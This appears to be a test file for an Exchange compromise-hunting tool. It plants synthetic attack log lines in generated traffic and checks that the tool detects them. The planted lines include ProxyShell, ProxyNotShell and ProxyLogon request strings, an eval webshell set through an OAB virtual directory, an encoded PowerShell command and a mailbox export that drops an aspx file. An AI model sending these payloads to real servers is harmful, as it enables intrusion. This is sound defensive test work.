// Collections exhunt has never seen, laid out the ways real triage copies are: attacks of every
// kind planted among days of ordinary traffic with its look-alikes. Every planted line must be
// found, and nothing at medium or above may cite a benign line — in every layout.
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import type { Report } from '../src/core/types.js';
import { writeCollection } from '../tools/corpus/collection.js';
import { RPS_CMDLET_FIELDS, RPS_HTTP_FIELDS, csvRow, ecpEventData, ecpServerLine, oabLine } from '../tools/corpus/formats.js';
import type { Item } from '../tools/corpus/intrusion.js';
import { Rng } from '../tools/corpus/rng.js';
import { DEMO_ORG, type Req } from '../tools/corpus/traffic.js';
import { buildZip, huntFixed, tempDir } from './helpers.js';

const DAY1 = Date.parse('2022-10-03T00:00:00Z');
const ATTACKER = (n: number) => `203.0.113.${n}`;
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36';

interface Plant {
  rule: string;
  item: Item;
}

let planted = 0;
function req(n: number, t: number, r: Partial<Req> & { stem: string }): Item {
  // A unique request id (also IIS's cafeReqId) lets the test find every line the request made.
  const requestId = `feed0000-0000-4000-8000-${String(++planted).padStart(12, '0')}`;
  const full: Req = { time: t, protocol: 'Owa', method: 'GET', query: '', user: '', clientIp: ATTACKER(n), userAgent: CHROME, status: 200, requestId, ...r };
  return { time: t, req: full };
}

function plants(): Plant[] {
  const t = (h: number, m: number) => DAY1 + h * 3_600_000 + m * 60_000 + 1234;
  const ps = '@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.example';
  return [
    { rule: 'exchange-proxyshell', item: req(1, t(9, 1), { protocol: 'Autodiscover', method: 'POST', stem: '/autodiscover/autodiscover.json', query: ps }) },
    { rule: 'exchange-proxyshell', item: req(1, t(9, 2), { protocol: 'Autodiscover', stem: '/autodiscover/autodiscover.json', query: '@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example' }) },
    { rule: 'exchange-proxynotshell', item: req(2, t(10, 5), { protocol: 'Autodiscover', method: 'POST', stem: '/autodiscover/autodiscover.json', query: '@evil.example/Powershell?&Email=autodiscover/autodiscover.json%3f@evil.example', user: 'CONTOSO\\bkhan' }) },
    { rule: 'exchange-owassrf', item: req(3, t(11, 7), { protocol: 'Owa', method: 'POST', stem: '/owa/mastermailbox%40outlook.com/powershell', user: 'CONTOSO\\jdoe' }) },
    { rule: 'exchange-proxylogon-ssrf', item: req(4, t(12, 0), { protocol: 'Ecp', method: 'POST', stem: '/ecp/q.js', anchorMailbox: 'ServerInfo~a]@exch01.contoso.local:444/ecp/proxyLogon.ecp?#', status: 241, userAgent: 'python-requests/2.25.1' }) },
    { rule: 'exchange-proxylogon-iis', item: req(4, t(12, 1), { protocol: 'Ecp', method: 'POST', stem: '/ecp/main.css', userAgent: 'python-requests/2.25.1' }) },
    { rule: 'exchange-webshell-access', item: req(5, t(13, 3), { method: 'POST', stem: '/owa/auth/Current/themes/resources/errorFS.aspx' }) },
    { rule: 'webshell-command-in-query', item: req(5, t(13, 4), { stem: '/aspnet_client/system_web/supp0rt.aspx', query: 'c=powershell+-enc+SQBFAFgA' }) },
    { rule: 'webshell-tunnel-or-tool', item: req(6, t(14, 5), { method: 'POST', stem: '/aspnet_client/tunnel.ashx', query: 'cmd=connect&target=10.20.0.4&port=445' }) },
    { rule: 'webshell-tunnel-or-tool', item: req(6, t(14, 6), { method: 'POST', stem: '/owa/auth/OutlookZH.aspx', userAgent: 'antSword/v2.1' }) },
    { rule: 'webfolder-dump-or-archive-download', item: req(7, t(15, 0), { stem: '/aspnet_client/out.7z' }) },
    { rule: 'exchange-version-fingerprint', item: req(8, t(8, 0), { protocol: 'Ecp', stem: '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application', userAgent: 'Mozilla/5.0 zgrab/0.x' }) },
    { rule: 'exchange-proxylogon-ecp-vdir-script', item: { time: t(16, 0), sink: 'ecp', line: ecpServerLine(t(16, 0), 'EXCH01', ecpEventData({ cmd: `Set-OabVirtualDirectory.InternalUrl='http://o/#<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>'.Identity='x'` })) } },
    { rule: 'exchange-proxylogon-oab-file-write', item: { time: t(16, 5), sink: 'oab', line: oabLine(t(16, 5), 'Error', `Download failed and temporary file '\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx' needs to be removed.`) } },
    { rule: 'exchange-rps-http-anomalous-client', item: { time: t(17, 0), sink: 'rps-http', line: csvRow(RPS_HTTP_FIELDS, { DateTime: new Date(t(17, 0)).toISOString(), UrlStem: '/powershell', HttpStatus: 200, ClientIpAddress: ATTACKER(9), AuthenticatedUser: 'CONTOSO\\jdoe', ClientInfo: CHROME }) } },
    { rule: 'exchange-cmdlet-abuse', item: { time: t(17, 1), sink: 'rps-cmdlet', line: csvRow(RPS_CMDLET_FIELDS, { DateTime: new Date(t(17, 1)).toISOString(), AuthenticatedUser: 'CONTOSO\\jdoe', Cmdlet: 'New-MailboxExportRequest', Parameters: `-Mailbox 'ceo' -FilePath '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx'` }) } },
  ];
}

function listFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? listFiles(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}

/** Where each planted record ended up: its exact text → `file:line` relative to the root. */
function locate(root: string, items: Item[], rel: (abs: string) => string): Map<Item, string[]> {
  const needles = items.map((it) => ('req' in it ? it.req.requestId : it.line));
  const found = new Map<Item, string[]>(items.map((it) => [it, []]));
  for (const f of listFiles(root)) {
    readFileSync(f, 'utf8').split('\n').forEach((line, i) => {
      needles.forEach((n, k) => {
        if (line.includes(n)) found.get(items[k]!)!.push(`${rel(f)}:${i + 1}`);
      });
    });
  }
  return found;
}

function check(report: Report, planted: Plant[], where: Map<Item, string[]>): void {
  assert.equal(report.verdict.status, 'COMPROMISED');
  const cited = new Map<string, { rule: string; severity: string }[]>();
  for (const f of report.findings) for (const e of f.evidence) cited.set(`${e.file}:${e.line}`, [...(cited.get(`${e.file}:${e.line}`) ?? []), f]);
  for (const p of planted) {
    // A request is written to IIS and to HttpProxy; the planted rule must cite one of them.
    const places = where.get(p.item)!;
    assert.ok(places.length > 0, `${p.rule} was written`);
    assert.ok(
      places.some((at) => (cited.get(at) ?? []).some((f) => f.rule === p.rule)),
      `${p.rule}: one of ${places.join(', ')} is cited by a ${p.rule} finding`,
    );
  }
  const plantedPlaces = new Set([...where.values()].flat());
  for (const f of report.findings) {
    if (f.severity === 'low' || f.severity === 'info') continue;
    for (const e of f.evidence) assert.ok(plantedPlaces.has(`${e.file}:${e.line}`), `${f.rule} (${f.severity}) cites a benign line: ${e.file}:${e.line} ${e.excerpt.slice(0, 160)}`);
  }
}

describe('collections never seen before', () => {
  const planted = plants();
  const items = planted.map((p) => p.item);
  const source = tempDir();
  writeCollection({ root: source, org: DEMO_ORG, start: '2022-10-02', days: 3, requestsPerDay: 1500, seed: new Rng(99).int(1e9), items, version: '15.02.0986.005' });

  test('layout as copied: C/Program Files/…/Logging and C/inetpub/…', async () => {
    const r = await huntFixed([source]);
    check(r, planted, locate(source, items, (f) => path.relative(source, f).split(path.sep).join('/')));
    assert.deepEqual(r.errors, []);
  });

  test('flat folder: every log side by side, renamed', async () => {
    const flat = tempDir();
    const files = listFiles(source);
    const renamed = new Map<string, string>();
    files.forEach((f, i) => {
      // The OAB generator log's layout is undocumented; without headers only its folder names it.
      const name = f.includes('OABGeneratorLog') ? `OABGeneratorLog/${path.basename(f)}` : `${String(i).padStart(3, '0')}-${path.basename(f)}`;
      mkdirSync(path.dirname(path.join(flat, name)), { recursive: true });
      cpSync(f, path.join(flat, name));
      renamed.set(path.join(flat, name), name);
    });
    const r = await huntFixed([flat]);
    check(r, planted, locate(flat, items, (f) => renamed.get(f)!));
  });

  test('a KAPE-style zip of Logging and inetpub, hunted with two threads', async () => {
    const files = listFiles(source);
    const zipDir = tempDir();
    const entries = files.map((f) => ({ name: `E/${path.relative(source, f).split(path.sep).join('/')}`, data: readFileSync(f) }));
    const zipPath = path.join(zipDir, 'EXCH01.zip');
    writeFileSync(zipPath, buildZip(entries));
    const r = await huntFixed([zipPath], { threads: 2 });
    check(r, planted, locate(source, items, (f) => `E/${path.relative(source, f).split(path.sep).join('/')}`));
  });
});
